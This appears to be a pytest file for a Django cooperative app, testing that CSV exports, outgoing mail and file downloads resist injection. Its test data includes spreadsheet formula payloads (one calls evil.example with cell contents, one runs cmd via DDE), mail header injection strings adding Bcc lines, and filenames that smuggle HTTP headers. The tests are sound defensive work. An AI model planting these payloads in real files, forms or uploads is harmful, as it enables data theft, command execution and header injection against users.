"""Words that would write headers of their own, and words that would run in a spreadsheet."""

import csv
import io
from email import message_from_bytes, policy
from email.message import Message

import pytest
from django.core import mail
from django.core.files.base import ContentFile
from django.urls import reverse

from palabre.commons.files.models import File
from palabre.commons.notices.mailing.mail import mail_some
from palabre.commons.notices.preferences import set_pace
from palabre.governance.models import Commitment
from palabre.people.models import Audience, Cooperative, Member
from tests.world import build
from tests.world.reading import read_to_the_end

pytestmark = pytest.mark.long
FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '=1;"=2"',
]  # fmt: skip
# How a spreadsheet looks at a cell: what it would run.
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
LINES = [
    "Réunion\r\nBcc: all@evil.example", "Réunion\nSubject: other", "Réunion\r\n\r\n<script>", "x\u2028Bcc: y",
    "x\x0bBcc: y", "x\x85Bcc: y", "\r\nBcc: y",
]  # fmt: skip
NAMES = [
    'a"; filename="b.html', "a\r\nSet-Cookie: palabre=1.pdf", "a\nX: y.pdf", "a;b=c.pdf", "😀.pdf", "%22%0d%0aX: y.pdf",
    "é.pdf", "a\\b.pdf",
]  # fmt: skip


def would_run(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.lstrip(" ").startswith(RUNS)]


def test_no_cell_of_the_register_runs(client, cast):
    world = build(cast, 1)
    for formula in FORMULAS:
        Commitment.objects.filter(pk=world.commitment.pk).update(title=formula, means=formula, owner_service=formula)
        text = client.get(reverse("governance:commitments_csv")).content.decode().removeprefix("\ufeff")
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        assert f"'{formula}" in cells, "the words stay"
        assert would_run(text) == []


def test_a_cell_that_runs_is_seen():
    assert would_run('a,"=1+1"\r\n"  @x",b\r\n') == ["=1+1", "  @x"]


@pytest.mark.parametrize("line", LINES)
def test_no_name_writes_a_line_of_a_mails_head(cast, line):
    """Past the forms, which take line breaks out: a row that was written before them."""
    Member.objects.update(language="en")
    world = build(cast, 1)
    Cooperative.objects.update(name=line)
    Commitment.objects.filter(pk=world.commitment.pk).update(title=line)
    Member.objects.filter(pk=cast.awa.pk).update(name=line)
    for member in Member.objects.all():
        set_pace(member, "soon")
    assert mail_some() > 0
    for sent in mail.outbox:
        read = message_from_bytes(sent.message().as_bytes(), policy=policy.default)
        assert (read["Bcc"], read.get_all("Subject")[1:], len(read.get_all("To"))) == (None, [], 1)


@pytest.mark.parametrize("name", NAMES)
def test_no_file_name_writes_a_header(client, cast, name, settings, tmp_path):
    client.force_login(cast.awa)
    file = File(name=name, media_type="application/pdf", size=4, sha256="0" * 64, by=cast.awa,
                audience=Audience.wide("members"))  # fmt: skip
    file.content.save("0" * 64, ContentFile(b"%PDF"), save=False)
    file.save()
    answer = client.get(reverse("files:file", args=[file.pk]))
    read_to_the_end(answer)
    said = answer["Content-Disposition"]
    assert (answer.status_code, answer.get("Set-Cookie"), answer.get("X")) == (200, None, None)
    assert said.startswith("attachment")
    assert not {"\r", "\n"} & set(said)
    read = Message()
    read["Content-Disposition"] = said
    assert [key for key, _ in read.get_params(header="content-disposition")] == ["attachment", "filename"]
    assert answer["Content-Type"] == "application/pdf"
    file.content.delete(save=False)
